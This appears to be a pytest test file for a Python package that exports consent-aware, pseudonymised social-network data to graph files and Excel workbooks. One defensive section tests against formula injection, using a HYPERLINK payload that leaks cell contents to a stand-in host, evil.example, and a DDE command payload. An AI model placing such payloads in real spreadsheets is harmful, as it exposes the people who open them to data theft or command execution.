"""Graph files and workbooks: shown names, no ``name`` attribute, plain values, UCINET DL."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import networkx as nx
import openpyxl
import pandas as pd
import pytest

import partnet as pn
from partnet.errors import ParameterError
from partnet.export import export, export_graph, network_tables, sheet_names, write_graph, write_tables
from partnet.pseudonyms import leaked_names

TINY = Path(__file__).parent / "fixtures" / "tiny"
EXAMPLE = Path(__file__).parent / "fixtures" / "example"

# Roster of the tiny case: t2, t5, t8 did not consent to be named. Pseudonyms are
# not written out here: they come from the case's (keyed) numbering.
NAMED = {"t1": "Ottoline Prewitt", "t3": "Isolde Marchbanks", "t4": "Caspian Dunmore", "t6": "Lysander Quayle",
         "t7": "Morwenna Blatchford"}
HIDDEN_IDS = ("t2", "t5", "t8")


@pytest.fixture(scope="module")
def case():
    return pn.load_case(TINY)


@pytest.fixture(scope="module")
def pseudonyms(case):
    """person_id -> pseudonym of the tiny case, in roster order."""
    return {pid: case.pseudonyms.of(pid) for pid in case.people["person_id"]}


def _text(path: Path) -> str:
    if path.suffix == ".xlsx":
        with zipfile.ZipFile(path) as z:
            return "\n".join(z.read(n).decode("utf-8") for n in z.namelist() if n.endswith(".xml"))
    return path.read_text(encoding="utf-8")


def test_labels_follow_consent_in_named_mode(case, pseudonyms):
    H = export_graph(case.graph())
    assert nx.get_node_attributes(H, "label") == {**NAMED, **{pid: pseudonyms[pid] for pid in HIDDEN_IDS}}
    assert all("name" not in d for _, d in H.nodes(data=True))


def test_anonymised_labels_are_pseudonyms(case, pseudonyms):
    H = export_graph(case.graph(), anonymise=True)
    assert list(H) == list(pseudonyms.values())
    assert nx.get_node_attributes(H, "label") == {p: p for p in pseudonyms.values()}
    assert H.graph["anonymised"] is True


def test_values_are_plain_python_types(case):
    H = export_graph(case.graph(nonrespondents="reconstruct"))
    values = [v for _, d in H.nodes(data=True) for v in d.values()]
    values += [v for _, _, d in H.edges(data=True) for v in d.values()] + list(H.graph.values())
    assert {type(v) for v in values} <= {bool, int, float, str}
    assert H.nodes["t1"]["org_size"] == 310 and H.nodes["t3"]["responded"] is False
    assert sum(d["imputed"] for _, _, d in H.edges(data=True)) == 2   # t3 and t8 answer back their namers


@pytest.mark.parametrize("fmt", ["gexf", "graphml", "dl", "xlsx"], ids=["gexf", "graphml", "dl", "xlsx"])
def test_anonymised_files_hold_no_roster_name(case, fmt, tmp_path):
    out = export(TINY, fmt, tmp_path, anonymise=True)
    assert out == tmp_path / f"tiny.{fmt}"
    text = _text(out)
    assert leaked_names(text, case.people) == []
    assert "BCC-01" in text


@pytest.mark.parametrize("fmt", ["gexf", "graphml", "dl", "xlsx"], ids=["gexf", "graphml", "dl", "xlsx"])
def test_named_files_hide_people_without_consent(case, fmt, tmp_path):
    text = _text(export(TINY, fmt, tmp_path / f"network.{fmt}"))
    assert "Caspian Dunmore" in text
    hidden = case.people[~case.people["consent_named"]]
    assert leaked_names(text, hidden) == []


@pytest.mark.parametrize("fmt,reader", [("gexf", nx.read_gexf), ("graphml", nx.read_graphml)], ids=["gexf", "graphml"])
def test_graph_files_read_back(case, pseudonyms, fmt, reader, tmp_path):
    G = case.graph(min_frequency=3)
    ps = pseudonyms
    R = reader(write_graph(G, tmp_path / f"g.{fmt}", anonymise=True))
    assert sorted(R.nodes) == sorted(ps[v] for v in G.nodes)
    assert sorted(R.edges) == sorted((ps[u], ps[v]) for u, v in G.edges)
    assert int(R.edges[ps["t5"], ps["t6"]]["frequency"]) == 5
    t4 = R.nodes[ps["t4"]]
    assert t4["label"] == ps["t4"] and t4["organisation"] == "Brackenford County Council"
    N = reader(write_graph(G, tmp_path / f"named.{fmt}"))
    assert sorted(N.nodes) == sorted(G.nodes) and sorted(N.edges) == sorted(G.edges)
    assert N.nodes["t4"]["label"] == "Caspian Dunmore"


def test_dl_reads_back_through_partnet(case, pseudonyms, tmp_path):
    from partnet.dl import parse_dl

    path = write_graph(case.graph(), tmp_path / "tiny.dl", anonymise=True)
    problems = []
    raw = parse_dl(path.read_text(), "egov_contact", "tiny.dl", problems)
    assert problems == []
    rows = {(r["respondent"], r["alter"]): r["frequency"] for r in raw.rows}
    assert len(rows) == 17
    ps = pseudonyms
    assert rows[(ps["t4"], ps["t7"])] == "3" and rows[(ps["t7"], ps["t8"])] == "5"


def test_network_tables_match_the_graph(case, pseudonyms):
    tables = network_tables(case.graph(), anonymise=True)
    assert list(tables["nodes"]["label"]) == list(pseudonyms.values())
    assert len(tables["edges"]) == 17
    m = tables["matrix"]
    assert m.shape == (8, 8) and int(m.to_numpy().sum()) == 61   # the 17 frequencies add up to 61
    ps = pseudonyms
    assert m.loc[ps["t1"], ps["t2"]] == 5 and m.loc[ps["t2"], ps["t7"]] == 0


def test_xlsx_export_sheets(tmp_path):
    wb = openpyxl.load_workbook(export(TINY, "xlsx", tmp_path / "t.xlsx", anonymise=True))
    assert wb.sheetnames == ["contents", "about", "nodes", "edges", "matrix"]
    about = {r[0]: r[1] for r in wb["about"].iter_rows(min_row=2, values_only=True)}
    assert about["anonymised"] == "yes" and about["case_id"] == "tiny" and len(about["data checksum (SHA-256)"]) == 64


def test_case_yaml_anonymise_cannot_be_switched_off(tmp_path):
    import shutil

    folder = tmp_path / "tiny"
    shutil.copytree(TINY, folder)
    (folder / "case.yaml").write_text((folder / "case.yaml").read_text() + "anonymise: true\n")
    text = _text(export(folder, "graphml", tmp_path / "x.graphml", anonymise=False))
    assert "Caspian Dunmore" not in text and "BCC-01" in text


@pytest.mark.parametrize("fmt,message", [("gefx", "did you mean 'gexf'"), ("pdf", "one of gexf")],
                         ids=["typo", "unknown"])
def test_unknown_format(fmt, message):
    with pytest.raises(ParameterError, match=message):
        export(TINY, fmt)


def test_sheet_names_are_valid_and_unique():
    names = sheet_names(["a:b", "A:B", "[x]", "'q'", "y" * 40])
    assert names == ["a_b", "A_B_2", "_x_", "q", "y" * 31]


def test_write_tables_keeps_named_index_and_drops_range_index(tmp_path):
    import pandas as pd

    t1 = pd.DataFrame({"v": [1, 2]}, index=pd.Index(["a", "b"], name="org"))
    t2 = pd.DataFrame({"w": [3.5]})
    t3 = pd.DataFrame([[1, 2]], columns=pd.MultiIndex.from_tuples([("x", "in"), ("x", "out")]))
    wb = openpyxl.load_workbook(write_tables({"one": t1, "two": t2, "three": t3}, tmp_path / "t.xlsx"))
    assert [list(r) for r in wb["one"].iter_rows(values_only=True)] == [["org", "v"], ["a", 1], ["b", 2]]
    assert [list(r) for r in wb["two"].iter_rows(values_only=True)] == [["w"], [3.5]]
    assert [list(r) for r in wb["three"].iter_rows(values_only=True)] == [["x / in", "x / out"], [1, 2]]


def test_command_line_export(pseudonyms, tmp_path, capsys):
    from partnet.cli import main

    out = tmp_path / "tiny-anon.dl"
    assert main(["export", str(TINY), "--format", "dl", "--anonymise", "-o", str(out)]) == 0
    assert f"Wrote {out}" in capsys.readouterr().out
    assert out.read_text().splitlines()[2] == ",".join(pseudonyms.values())
    assert main(["export", str(tmp_path / "missing"), "--format", "gexf"]) == 1
    assert "error:" in capsys.readouterr().err


# ------------------------------------------------------------------ formula-safe workbooks (OWASP CSV injection)

FORMULA_LIKE = ['=HYPERLINK("http://evil.example/?leak="&B2,"x")', "+1 555", "-note", "@SUM(A1)", "\tx", "\rx"]


def _same_text(value, expected):
    """openpyxl writes a carriage return raw (without lxml), and XML reads a raw CR back as a line feed."""
    return value in (expected, expected.replace("\r", "\n"))


def _cells(path):
    wb = openpyxl.load_workbook(path)
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def test_write_tables_keeps_formula_like_text_as_text(tmp_path):
    t = pd.DataFrame({"quote": FORMULA_LIKE, "=change": [-3.5, 0, 2, -1, 7, 0.25]},
                     index=pd.Index(["=A1*2", "b", "c", "d", "e", "f"], name="who"))
    out = write_tables({"quotes": t}, tmp_path / "t.xlsx", captions={"quotes": "=cmd|' /C calc'!A0"})
    wb = openpyxl.load_workbook(out)
    ws = wb["quotes"]
    header = [(c.value, c.data_type, c.quotePrefix) for c in ws[1]]
    assert header == [("who", "s", False), ("quote", "s", False), ("=change", "s", True)]
    index_label = ws["A2"]
    assert (index_label.value, index_label.data_type, index_label.quotePrefix) == ("=A1*2", "s", True)
    for row, expected in zip(ws.iter_rows(min_row=2, min_col=2, max_col=2), FORMULA_LIKE):
        cell = row[0]
        assert _same_text(cell.value, expected), (cell.value, expected)
        assert cell.data_type == "s" and cell.quotePrefix is True
    numbers = [(c.value, c.data_type, c.quotePrefix) for row in ws.iter_rows(min_row=2, min_col=3) for c in row]
    assert numbers[:2] == [(-3.5, "n", False), (0, "n", False)]
    assert all(dt == "n" for _, dt, _ in numbers)
    caption = wb["contents"]["C2"]
    assert (caption.value, caption.data_type, caption.quotePrefix) == ("=cmd|' /C calc'!A0", "s", True)
    assert not any(c.data_type == "f" for c in _cells(out))


def test_write_tables_leaves_plain_text_alone(tmp_path):
    out = write_tables({"t": pd.DataFrame({"x": ["plain", "a-b", "e@mail"]})}, tmp_path / "t.xlsx")
    cells = openpyxl.load_workbook(out)["t"]
    assert [(c.value, c.data_type, c.quotePrefix) for c in cells["A"]] == [
        ("x", "s", False), ("plain", "s", False), ("a-b", "s", False), ("e@mail", "s", False)]


EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
EVIL_ORG = "=Northvale District Council"


@pytest.fixture
def formula_case(make_case):
    people = (EXAMPLE / "people.csv").read_text()
    people = people.replace("Ada Quintrell", '"' + EVIL_NAME.replace('"', '""') + '"')
    people = people.replace("Northvale District Council", EVIL_ORG)
    orgs = (EXAMPLE / "organisations.csv").read_text().replace("Northvale District Council", EVIL_ORG)
    yaml = (EXAMPLE / "case.yaml").read_text().replace("title: Example", "title: =1+1 Example")
    return pn.load_case(make_case("formulas", people=people, organisations=orgs, **{"case.yaml": yaml}))


@pytest.mark.parametrize("anonymise", [False, True], ids=["named", "anonymised"])
def test_xlsx_export_writes_no_formula(formula_case, anonymise, tmp_path):
    assert formula_case.people.loc[formula_case.people["person_id"] == "p1", "name"].item() == EVIL_NAME
    out = export(formula_case, "xlsx", tmp_path / "f.xlsx", anonymise=anonymise)
    cells = _cells(out)
    assert not any(c.data_type == "f" for c in cells)
    values = {c.value: c for c in cells if isinstance(c.value, str)}
    assert values[EVIL_ORG].data_type == "s" and values[EVIL_ORG].quotePrefix is True
    if not anonymise:
        assert values[EVIL_NAME].data_type == "s" and values[EVIL_NAME].quotePrefix is True
    assert "<f>" not in _text(out)


def test_template_keeps_a_formula_like_case_id_as_text(tmp_path):
    from partnet.template import init_case, template_name

    folder = init_case(tmp_path / "=1+2")
    cells = _cells(folder / template_name("=1+2"))
    assert not any(c.data_type == "f" for c in cells)
    case_id = next(c for c in cells if c.value == "=1+2")
    assert case_id.data_type == "s" and case_id.quotePrefix is True


# ------------------------------------------------------------------ anonymised graph files: no person_id, no consent

DISTINCT_IDS = {"p1": "quintrell_a", "p2": "okonjo_b", "p3": "vantongeren_c", "p4": "haraldsen_d"}


def _rekey(text: str) -> str:
    for old, new in DISTINCT_IDS.items():
        text = re.sub(rf"\b{old}\b", new, text)
    return text


@pytest.fixture
def distinct_case(make_case):
    files = {stem: _rekey((EXAMPLE / f"{stem}.csv").read_text()) for stem in ("people", "ties", "segments")}
    case = pn.load_case(make_case("distinct", **files))
    assert sorted(case.people["person_id"]) == sorted(DISTINCT_IDS.values())
    return case


@pytest.mark.parametrize("fmt,reader", [("gexf", nx.read_gexf), ("graphml", nx.read_graphml)], ids=["gexf", "graphml"])
def test_anonymised_graph_file_ids_are_pseudonyms(distinct_case, fmt, reader, tmp_path):
    case = distinct_case
    ps = {pid: case.pseudonyms.of(pid) for pid in case.people["person_id"]}
    G = case.graph()
    out = export(case, fmt, tmp_path, anonymise=True)
    R = reader(out)
    assert sorted(R.nodes) == sorted(ps.values())
    for v, d in R.nodes(data=True):
        assert d["label"] == v
        assert "consent_named" not in d and "pseudonym" not in d and "person_id" not in d
    assert R.number_of_edges() == G.number_of_edges()
    assert {(u, v): int(d["frequency"]) for u, v, d in R.edges(data=True)} == {
        (ps[u], ps[v]): d["frequency"] for u, v, d in G.edges(data=True)}


@pytest.mark.parametrize("fmt", ["gexf", "graphml", "dl", "xlsx"], ids=["gexf", "graphml", "dl", "xlsx"])
def test_anonymised_files_hold_no_person_id_or_consent(distinct_case, fmt, tmp_path):
    text = _text(export(distinct_case, fmt, tmp_path, anonymise=True))
    for pid in distinct_case.people["person_id"]:
        assert pid not in text
    assert "consent_named" not in text
    assert distinct_case.pseudonyms.of("quintrell_a") in text


def test_anonymised_workbook_ties_by_pseudonym(distinct_case, tmp_path):
    case = distinct_case
    ps = {pid: case.pseudonyms.of(pid) for pid in case.people["person_id"]}
    wb = openpyxl.load_workbook(export(case, "xlsx", tmp_path, anonymise=True))
    nodes = list(wb["nodes"].iter_rows(values_only=True))
    assert "person_id" not in nodes[0] and "consent_named" not in nodes[0] and "pseudonym" not in nodes[0]
    assert [r[nodes[0].index("label")] for r in nodes[1:]] == list(ps.values())
    edges = list(wb["edges"].iter_rows(values_only=True))
    source, target, frequency = (edges[0].index(c) for c in ("source", "target", "frequency"))
    assert {(r[source], r[target]): r[frequency] for r in edges[1:]} == {
        (ps[u], ps[v]): d["frequency"] for u, v, d in case.graph().edges(data=True)}


@pytest.mark.parametrize("fmt,reader", [("gexf", nx.read_gexf), ("graphml", nx.read_graphml)], ids=["gexf", "graphml"])
def test_named_graph_file_keeps_person_ids_and_consent(distinct_case, fmt, reader, tmp_path):
    R = reader(export(distinct_case, fmt, tmp_path))
    assert sorted(R.nodes) == sorted(DISTINCT_IDS.values())
    consent = {v: d["consent_named"] for v, d in R.nodes(data=True)}
    assert consent == {"quintrell_a": True, "okonjo_b": False, "vantongeren_c": True, "haraldsen_d": True}
    assert R.nodes["okonjo_b"]["pseudonym"] == distinct_case.pseudonyms.of("okonjo_b")
    assert R.has_edge("quintrell_a", "okonjo_b")
    wb = openpyxl.load_workbook(export(distinct_case, "xlsx", tmp_path))
    assert next(wb["nodes"].iter_rows(values_only=True))[:3] == ("person_id", "label", "pseudonym")


def test_anonymising_refuses_a_shared_pseudonym():
    G = nx.DiGraph()
    G.add_node("secret_a", name="A", pseudonym="X-01", consent_named=True)
    G.add_node("secret_b", name="B", pseudonym="X-01", consent_named=True)
    G.add_edge("secret_a", "secret_b", frequency=2)
    with pytest.raises(ParameterError, match="X-01") as info:
        export_graph(G, anonymise=True)
    assert "secret" not in str(info.value)
    assert sorted(export_graph(G)) == ["secret_a", "secret_b"]   # named files keep person_ids
